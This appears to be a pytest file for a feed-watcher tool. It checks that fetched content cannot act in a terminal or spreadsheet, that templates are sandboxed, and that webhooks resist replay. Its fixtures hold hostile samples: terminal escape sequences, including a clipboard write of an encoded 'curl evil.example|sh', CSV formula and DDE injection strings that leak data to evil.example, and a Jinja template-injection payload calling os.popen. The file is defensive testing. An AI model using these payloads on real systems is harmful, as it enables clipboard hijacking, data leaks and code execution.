"""Issue 22, points 7, 8 and 9: nothing fetched acts in a terminal or a spreadsheet,
user templates run sandboxed, the store file is private, and a webhook body cannot
be replayed. Hostile content comes from real servers on 127.0.0.1, through a poll."""

from __future__ import annotations

import csv
import io
import os
import re
import stat
from pathlib import Path

import backends
import pytest
from conftest import Cli, Workdir, feed_route, rss, source
from notify_helpers import BASELINE, COLORADO, KOREA, Receiver, SmtpSink

from watcher.demo.server import LocalServer
from watcher.store.db import open_store

AI_ONLY = {"timeout": "5s"}

# -- hostile titles ---------------------------------------------------------------------------

OSC8 = "\x1b]8;;http://evil.example/login\x07Official notice\x1b]8;;\x07"  # a hidden hyperlink
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x1b\\"  # writes the clipboard (ST-terminated)
RETITLE = "\x1b]0;sudo password required\x07"
CSI = "\x1b[2J\x1b[1;31m"  # clear the screen, red
C1_CSI = "\u009b31m"  # the 8-bit CSI
CONTROLS = f"AI Act guidance {OSC8} {OSC52}{RETITLE}{CSI}published{C1_CSI} now\x07\x08\x7f\x1b"
# Anything a terminal acts on: C0 but tab and newline, DEL, C1.
_ACTIVE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def raw_rss(entries: list[tuple[str, str, str]]) -> bytes:
    """RSS with (guid, title, description) written as given: control bytes and all, as a
    hostile server sends them (not valid XML 1.0; the feed parser still reads them)."""
    items = "".join(f"<item><guid>{g}</guid><title>{t}</title><link>http://127.0.0.1/{g}</link>"
                    f"<description>{d}</description></item>" for g, t, d in entries)
    return ('<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>t</title>'
            f"<link>http://127.0.0.1/</link><description>d</description>{items}</channel></rss>").encode()


def poll_hostile(server: LocalServer, work: Workdir, cli: Cli, entries: list[tuple[str, str, str]]) -> None:
    server.set("/evil.xml", feed_route(raw_rss(entries)))
    work.write_config([source("evil", server.url("/evil.xml"), "EU")])
    run = cli("poll")
    assert run.code == 0, run.err


def assert_inert(text: str) -> None:
    assert not _ACTIVE.search(text), repr(_ACTIVE.search(text).group())
    # Sequences go whole: nothing of their payload is left to read as text.
    assert "evil.example" not in text and "8;;" not in text and "52;c;" not in text
    assert "sudo password" not in text


# -- point 8: the terminal ----------------------------------------------------------------------


def test_show_and_evidence_print_no_terminal_controls(server: LocalServer, work: Workdir, cli: Cli) -> None:
    poll_hostile(server, work, cli, [("osc", CONTROLS, f"The AI Act applies. {CONTROLS}")])
    [change] = cli.changes()
    assert "\x1b]8;;" in change["title"], "stored as fetched (JSON output keeps it, escaped)"

    shown = cli("show", str(change["id"]))
    assert shown.code == 0, shown.err
    assert_inert(shown.out)
    assert "AI Act guidance" in shown.out and "Official notice" in shown.out and "published" in shown.out

    evidence = cli("show", str(change["id"]), "--evidence")
    assert evidence.code == 0, evidence.err
    assert_inert(evidence.out)
    assert "fetched text" in evidence.out and "Official notice" in evidence.out

    # JSON keeps the data exact, with every control escaped (C1 and DEL too).
    as_json = cli("show", str(change["id"]), "--format", "json")
    assert not _ACTIVE.search(as_json.out)
    assert as_json.json()["title"] == change["title"]


def test_changes_table_never_cuts_inside_a_sequence(server: LocalServer, work: Workdir, cli: Cli) -> None:
    # The hidden link opens 40 columns in: a table cut there used to leave it open.
    title = "AI Act: implementing guidance published " + OSC8 + " and " + OSC52 + "[bold]x[/bold]" + "x" * 200
    poll_hostile(server, work, cli, [("cut", title, "The AI Act applies."), ("c1", CONTROLS, "AI Act.")])
    for columns in ("60", "80", "200"):
        table = cli("changes", "--all", env={"COLUMNS": columns})
        assert table.code == 0, table.err
        assert_inert(table.out)
        assert "AI Act: implementing" in table.out
    wide = cli("changes", "--all", env={"COLUMNS": "400"})
    assert "[bold]x[/bold]" in wide.out  # text, never rich markup
    listed = cli("changes", "--all", "--format", "jsonl")
    assert not _ACTIVE.search(listed.out)


def test_sources_and_deliveries_tables_drop_controls_from_errors(server: LocalServer, work: Workdir,
                                                                 cli: Cli) -> None:
    """A last error quoting what a server said is fetched content too."""
    poll_hostile(server, work, cli, [("a", "AI Act guidance", "The AI Act applies.")])
    backends.sql(work.db, "UPDATE sources SET last_error = ?, consecutive_failures = 1", f"HTTP 500: {CONTROLS}")
    run = cli("sources", env={"COLUMNS": "200"})
    assert run.code == 0, run.err
    assert_inert(run.out)
    assert "HTTP 500" in run.out


# -- point 7: CSV -----------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"AI Act guidance")', "+cmd|' /C calc'!A0 AI Act",
            "-2+3+cmd|' /C calc'!A0 AI Act", "@SUM(1+1)*cmd|' /C calc'!A0 AI Act"]


def test_changes_csv_cells_never_start_a_formula(server: LocalServer, work: Workdir, cli: Cli) -> None:
    entries = [(f"f{n}", title.replace("&", "&amp;"), ("=1+1 The AI Act applies.", "The AI Act applies.")[n % 2])
               for n, title in enumerate(FORMULAS)]
    poll_hostile(server, work, cli, entries)
    run = cli("changes", "--all", "--format", "csv")
    assert run.code == 0, run.err
    rows = list(csv.DictReader(io.StringIO(run.out)))
    assert len(rows) == len(FORMULAS)
    titles = {row["title"] for row in rows}
    assert titles == {"'" + t for t in FORMULAS}, titles  # OWASP: a leading single quote
    for row in rows:
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    assert any(row["summary"].startswith("'=1+1") for row in rows)
    assert {row["id"] for row in rows} == {str(c["id"]) for c in cli.changes()}  # numbers stay numbers


# -- point 9: templates run sandboxed --------------------------------------------------------------------


def test_user_template_cannot_reach_python(server: LocalServer, work: Workdir, cli: Cli, tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    templates = tmp_path / "templates"
    templates.mkdir()
    (templates / "subject.txt.j2").write_text(
        "{{ cycler.__init__.__globals__.os.popen('touch " + str(marker) + "').read() }}{{ subject }}", encoding="utf-8")
    with SmtpSink() as smtp:
        work.write_config([source("us", server.url("/us.xml"), "US")], defaults=AI_ONLY, channels=[
            {"id": "legal", "type": "email", "to": ["legal@example.org"], "from": "watcher@example.org",
             "smtp": {"host": "127.0.0.1", "port": smtp.port}, "templates": str(templates)}])
        server.set("/us.xml", feed_route(rss(BASELINE)))
        assert cli("poll").code == 0
        server.set("/us.xml", feed_route(rss([*BASELINE, COLORADO])))
        assert cli("poll").code == 0
        run = cli("digest")
    assert not marker.exists(), "the template ran a shell command"
    assert run.code == 3
    assert "subject.txt.j2" in run.err and "sandbox" in run.err, run.err
    assert smtp.messages == []
    row = {r["channel"]: r for r in cli("deliveries", "--format", "json").json()}["legal"]
    assert row["pending"] == 1 and "subject.txt.j2" in row["last_error"]


# -- point 9: the store file is the owner's only ------------------------------------------------------------


@pytest.mark.skipif(backends.BACKEND != "sqlite", reason="a SQLite store file")
def test_store_file_is_created_0600_under_umask_022(tmp_path: Path) -> None:
    path = tmp_path / "state" / "watcher.db"
    old = os.umask(0o022)
    try:
        with open_store(f"sqlite:///{path}") as store, store.engine.connect() as conn:
            conn.exec_driver_sql("CREATE TABLE probe (x)")  # a write: the -wal and -shm files exist now
            conn.commit()
            files = [p for p in (path, Path(f"{path}-wal"), Path(f"{path}-shm")) if p.exists()]
            modes = {p.name: oct(stat.S_IMODE(p.stat().st_mode)) for p in files}
    finally:
        os.umask(old)
    assert {"watcher.db", "watcher.db-wal"} <= set(modes), modes
    assert set(modes.values()) == {"0o600"}, modes


# -- point 9: webhook replays ---------------------------------------------------------------------------------


def _readme_verify() -> object:
    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text(encoding="utf-8")
    (snippet,) = re.findall(r"```python\n(.*?)```", readme, re.S)
    namespace: dict = {}
    exec(snippet, namespace)  # noqa: S102 - the README's own example
    return namespace["verify"]


def test_webhook_carries_a_delivery_id_the_readme_verifier_refuses_twice(server: LocalServer, work: Workdir,
                                                                       cli: Cli) -> None:
    secret = "whsec-replay-test"
    with Receiver() as hook:
        work.write_config([source("us", server.url("/us.xml"), "US")], defaults=AI_ONLY, channels=[
            {"id": "intranet", "type": "webhook", "url": hook.url("/in"), "secret": "${WEBHOOK_SECRET}",
             "mode": "instant"}])
        env = {"WEBHOOK_SECRET": secret}
        server.set("/us.xml", feed_route(rss(BASELINE)))
        assert cli("poll", env=env).code == 0
        for n, item in enumerate((COLORADO, KOREA), start=1):
            server.set("/us.xml", feed_route(rss([*BASELINE, *(COLORADO, KOREA)[:n]])))
            run = cli("poll", env=env)
            assert run.code == 0, run.err
            assert item["title"] in hook.posts[-1].body.decode()
    first, second = hook.accepted()
    ids = [p.headers["x-watcher-delivery"] for p in (first, second)]
    assert ids[0] != ids[1]
    assert [p.json()["delivery_id"] for p in (first, second)] == ids  # in the signed body too

    verify = _readme_verify()
    # Header names as a framework may hand them over: lower case, or as sent.
    lower = dict(first.headers)
    as_sent = {"X-Watcher-Signature": first.headers["x-watcher-signature"],
               "X-Watcher-Timestamp": first.headers["x-watcher-timestamp"]}
    assert verify(first.body, lower, secret)["delivery_id"] == ids[0]
    with pytest.raises(ValueError, match="replay"):
        verify(first.body, lower, secret)  # the same body again, inside the 300 s window
    with pytest.raises(ValueError, match="replay"):
        verify(first.body, as_sent, secret)
    assert verify(second.body, {k.upper(): v for k, v in second.headers.items()}, secret)["delivery_id"] == ids[1]
